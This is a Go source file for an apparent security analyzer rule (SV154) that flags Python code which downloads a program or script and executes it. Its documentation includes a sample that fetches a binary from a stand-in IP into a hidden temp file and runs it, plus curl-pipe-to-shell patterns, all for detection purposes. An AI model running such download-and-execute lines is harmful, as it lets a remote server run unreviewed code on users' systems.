package rules

import (
	"regexp"
	"strconv"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonDownloadExecute reports Python code that downloads a program or
// script and runs it.
var PythonDownloadExecute = register(&analyzer.Rule{
	ID:       "SV154",
	Name:     "python-download-execute",
	Title:    "Python downloads a program or script and runs it",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "python", "CWE-494", "CWE-829"},
	Inputs:   analyzer.InPython,
	Doc: `Python code fetches something from the network and executes it, so what runs is
decided by the server at run time, never reviewed, and can change after the skill
was approved:

- a file written from a download (` + "`urlretrieve`" + `, ` + "`open(p, 'wb').write(resp.content)`" + `,
  ` + "`Path.write_bytes`" + `, ` + "`shutil.copyfileobj`" + `) that is then made executable (` + "`os.chmod`" + ` with an
  execute bit, ` + "`chmod +x`" + `) or run (` + "`subprocess`" + `, ` + "`os.system`" + `, ` + "`os.startfile`" + `,
  ` + "`runpy.run_path`" + `, an interpreter given the path);
- a shell command whose text downloads and runs (` + "`curl … | sh`" + `, ` + "`bash -c \"$(curl …)\"`" + `,
  ` + "`wget -O- | python3`" + `);
- a command or argument list taken from an HTTP response.

All are **critical**. (` + "`exec`" + ` of downloaded code is SV151; commands read from a
socket are SV153.)

**Fix:** vendor the tool in the skill, or install it from a package manager with a
pinned version and checksum, and tell the user what will be installed.

Bad:

` + "```python" + `
import os, urllib.request
urllib.request.urlretrieve("http://203.0.113.7/agent", "/tmp/.agent")
os.chmod("/tmp/.agent", 0o755)
os.system("/tmp/.agent &")
` + "```" + `

Good:

` + "```python" + `
import subprocess
subprocess.run(["pip", "install", "black==24.8.0"], check=True)
` + "```",
	Run: runPythonDownloadExecute,
})

// pyDownloadFile is a file written from the network.
type pyDownloadFile struct {
	keys []string // ways the path appears: constant text, variable names
	call *python.Call
	url  string
}

func runPythonDownloadExecute(p *analyzer.Pass) error {
	m := pyModule(p)
	if m == nil {
		return nil
	}
	files := pyDownloadedFiles(m)
	chmodded := map[int]bool{}
	for _, c := range m.Calls {
		start, end := m.Span(c)
		a, b, how, isShell := pyShellCommand(m, c)
		if isShell {
			if cmd, ok := m.Fold(a, b); ok && downloadsAndRuns.MatchString(cmd) {
				pyReport(p, m, analyzer.Diagnostic{Start: start, End: end,
					Message: how + " downloads a script and runs it: " + clipStr(cmd, 80)})
				continue
			}
		}
		runner := isShell || pySubprocessCalls[c.Name] || hasPrefixAny(c.Name, pyExecCalls...) ||
			c.Name == "os.startfile" || c.Name == "runpy.run_path" || c.Name == "os.execv" || c.Name == "os.execvp"
		if runner {
			if len(c.Args) > 0 {
				lo, hi := c.Args[0].Start, c.Args[len(c.Args)-1].End
				if isShell {
					lo, hi = a, b
				}
				if r, ok := fromNetwork(m, lo, hi); ok {
					if _, sock := fromSocketRecv(m, lo, hi); !sock {
						pyReport(p, m, analyzer.Diagnostic{Start: start, End: end,
							Message: c.Name + " runs a command taken from an HTTP response (" + r.Name + ")"})
						continue
					}
				}
			}
			for k, f := range files {
				if pyRunsFile(m, c, f.keys, isShell, a, b) {
					pyReport(p, m, analyzer.Diagnostic{Start: start, End: end,
						Message: "runs a file downloaded at line " + lineOf(m, f.call.Head) + pyFrom(f.url)})
					chmodded[k] = true
					break
				}
			}
			continue
		}
		if c.Name == "os.chmod" || c.Name == "os.fchmod" || strings.HasSuffix(c.Name, ".chmod") {
			mode, ok := c.Arg(1, "mode")
			if !ok && strings.HasSuffix(c.Name, ".chmod") {
				mode, ok = c.Arg(0, "mode")
			}
			if !ok || !pyExecMode(m, mode) {
				continue
			}
			for k, f := range files {
				if !chmodded[k] && len(c.Args) > 0 && pyMentions(m, c.Args[0].Start, c.Args[0].End, "", f.keys) {
					pyReport(p, m, analyzer.Diagnostic{Start: start, End: end,
						Message: "makes a file downloaded at line " + lineOf(m, f.call.Head) + " executable" + pyFrom(f.url)})
					chmodded[k] = true
					break
				}
			}
		}
	}
	return nil
}

func pyFrom(url string) string {
	if url == "" {
		return ""
	}
	return " (from " + clipStr(url, 80) + ")"
}

// pyDownloadTarget recognises a call that writes downloaded data to a file
// and returns how its path is written.
func pyDownloadTarget(m *python.Module, c *python.Call) (pyDownloadFile, bool) {
	f := pyDownloadFile{call: c}
	switch {
	case strings.HasSuffix(c.Name, "urlretrieve"):
		u, _ := c.Arg(0, "url")
		if s, ok := m.Fold(u.Start, u.End); ok {
			f.url = s
		}
		dst, ok := c.Arg(1, "filename")
		if !ok {
			return f, false
		}
		f.keys = pyPathKeys(m, dst)
		return f, len(f.keys) > 0
	case c.Name == "shutil.copyfileobj":
		src, ok1 := c.Arg(0, "fsrc")
		dst, ok2 := c.Arg(1, "fdst")
		if !ok1 || !ok2 {
			return f, false
		}
		if _, ok := fromNetwork(m, src.Start, src.End); !ok {
			return f, false
		}
		f.keys = pyFileObjectPath(m, dst.Start, dst.End)
		return f, len(f.keys) > 0
	case hasSuffixAny(c.Name, ".write", ".writelines", ".write_bytes", ".write_text"):
		data, ok := c.Arg(0, "")
		if !ok {
			return f, false
		}
		if _, ok := fromNetwork(m, data.Start, data.End); !ok {
			return f, false
		}
		f.keys = pyFileObjectPath(m, c.Head, c.Open)
		return f, len(f.keys) > 0
	}
	return f, false
}

// pyFileObjectPath finds the path of the file object in tokens [a, b): an
// open(...)/Path(...) call there, or in the assignments of its variable.
func pyFileObjectPath(m *python.Module, a, b int) []string {
	for _, oc := range m.CallsIn(a, b) {
		if pyOpenish(oc.Name) {
			if arg, ok := oc.Arg(0, "file"); ok {
				return pyPathKeys(m, arg)
			}
		}
	}
	if m.Toks[a].Kind != python.Name {
		return nil
	}
	for k, as := range m.Assigns[m.Text(a)] {
		if k == pyMaxAssigns {
			break
		}
		for _, oc := range m.CallsIn(as.Start, as.End) {
			if pyOpenish(oc.Name) {
				if arg, ok := oc.Arg(0, "file"); ok {
					return pyPathKeys(m, arg)
				}
			}
		}
	}
	return nil
}

func pyOpenish(n string) bool {
	return n == "open" || n == "io.open" || n == "os.fdopen" || n == "codecs.open" || n == "pathlib.Path" || n == "Path" ||
		strings.HasPrefix(n, "tempfile.")
}

// pyPathKeys lists how a path argument can be recognised elsewhere: its
// constant value and the variables it uses.
func pyPathKeys(m *python.Module, a python.Arg) []string {
	var keys []string
	if s, ok := m.Fold(a.Start, a.End); ok && s != "" {
		keys = append(keys, s)
	}
	for _, r := range m.RefsIn(a.Start, a.End) {
		if r.Var != "" && !r.Call {
			keys = append(keys, "\x00"+r.Var)
		}
	}
	return keys
}

var pyInterpreters = map[string]bool{"python": true, "python3": true, "python2": true, "sh": true, "bash": true,
	"zsh": true, "node": true, "perl": true, "ruby": true, "pwsh": true, "powershell": true, "cmd": true,
	"cmd.exe": true, "sudo": true, "nohup": true, "env": true, "exec": true, "setsid": true, "start": true}

// pyRunsFile reports whether a process-starting call runs the file: as the
// program, or as the script given to an interpreter. A file passed as data
// to another program is not run.
func pyRunsFile(m *python.Module, c *python.Call, keys []string, isShell bool, a, b int) bool {
	if isShell {
		if cmd, ok := m.Fold(a, b); ok {
			for _, part := range shellSplitRx.Split(cmd, -1) {
				words := strings.Fields(part)
				for len(words) > 1 && (pyInterpreters[baseName(words[0])] || strings.HasPrefix(words[0], "-")) {
					words = words[1:]
				}
				for len(words) > 1 && strings.HasPrefix(words[0], "-") {
					words = words[1:]
				}
				if len(words) > 0 && pyMentions(m, 0, 0, words[0], keys) {
					return true
				}
			}
			return false
		}
		return pyMentions(m, a, b, "", keys)
	}
	arg, ok := c.Arg(0, "")
	if !ok {
		return false
	}
	items, isList := argList(m, arg)
	if !isList {
		if c.Name == "os.execl" || c.Name == "os.execlp" || strings.HasPrefix(c.Name, "os.spawnl") {
			items = nil
			for _, x := range c.Args {
				items = append(items, [2]int{x.Start, x.End})
			}
		} else {
			return pyMentions(m, arg.Start, arg.End, "", keys)
		}
	}
	for _, it := range items {
		if pyMentions(m, it[0], it[1], "", keys) {
			return true
		}
		prog, ok := m.Fold(it[0], it[1])
		if !ok || !(pyInterpreters[baseName(prog)] || strings.HasPrefix(prog, "-")) {
			return false
		}
	}
	return false
}

var shellSplitRx = regexp.MustCompile(`&&|\|\||[;&|\n]`)

// pyMentions reports whether tokens [lo, hi), or the text s, use one of
// the keys (a constant path, or "\x00" + a variable name).
func pyMentions(m *python.Module, lo, hi int, s string, keys []string) bool {
	for _, k := range keys {
		if s != "" {
			if !strings.HasPrefix(k, "\x00") && strings.Contains(s, k) {
				return true
			}
			continue
		}
		if strings.HasPrefix(k, "\x00") {
			for _, r := range m.RefsIn(lo, hi) {
				if r.Var == k[1:] {
					return true
				}
			}
			continue
		}
		for i := lo; i < hi; i++ {
			if m.Toks[i].Kind == python.String {
				if v, _ := m.Value(i); strings.Contains(v, k) {
					return true
				}
			}
		}
		if s, ok := m.Fold(lo, hi); ok && strings.Contains(s, k) {
			return true
		}
	}
	return false
}

// pyExecMode reports a chmod mode with an execute bit.
func pyExecMode(m *python.Module, a python.Arg) bool {
	t := m.ArgText(a)
	if strings.Contains(t, "S_IX") || strings.Contains(t, "S_IEXEC") || strings.Contains(t, "S_IRWX") {
		return true
	}
	if a.End-a.Start == 1 && m.Toks[a.Start].Kind == python.Number {
		n, err := strconv.ParseInt(t, 0, 64)
		return err == nil && n&0o111 != 0
	}
	return false
}
